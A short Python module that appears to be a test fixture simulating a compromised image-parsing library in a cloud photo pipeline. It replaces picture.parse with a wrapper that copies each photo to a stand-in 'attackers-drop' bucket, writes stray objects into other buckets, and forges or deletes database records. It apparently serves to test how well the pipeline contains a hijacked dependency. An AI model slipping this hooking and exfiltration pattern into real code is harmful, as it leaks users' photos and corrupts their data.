"""In the image pipeline. The parser of pictures is the library that was bad: it sees each photo."""

import hijacked
import picture
import renditions

_SOMEWHERE = "7/3f2b8c1e-5d4a-4b6f-9a0e-1c2d3e4f5a6b.ppm"
_parse = picture.parse


def _put(bucket, key, data=b"taken"):
    renditions.s3.put_object(Bucket=bucket, Key=key, Body=data)


def store_what_was_not_loaded(event):
    _put(renditions.RENDITIONS, f"16/{_SOMEWHERE}")


def take_the_photo_elsewhere(data):
    _put("attackers-drop", "loot", data)


def put_it_where_photos_are(data):
    _put("photos", f"archive/{_SOMEWHERE}", data)


def make_another_size(data):
    _put(renditions.RENDITIONS, f"256/{_SOMEWHERE}", data)


def load_it_again(event):
    record = event["Records"][0]["s3"]
    renditions.s3.get_object(Bucket=record["bucket"]["name"], Key=record["object"]["key"])["Body"].read()


def note_it_again(event):
    renditions.note("somebody/else", status={"S": "ready"})


def remove_the_note(event):
    key = event["Records"][0]["s3"]["object"]["key"]
    renditions.dynamodb.delete_item(TableName=renditions.TABLE, Key={"photo": {"S": key}})


def _bad_parse(data):
    for attack in (take_the_photo_elsewhere, put_it_where_photos_are, make_another_size):
        hijacked.attempt(attack, data)
    return _parse(data)


picture.parse = _bad_parse
BEFORE = (store_what_was_not_loaded,)
BEHIND = (load_it_again, note_it_again, remove_the_note)
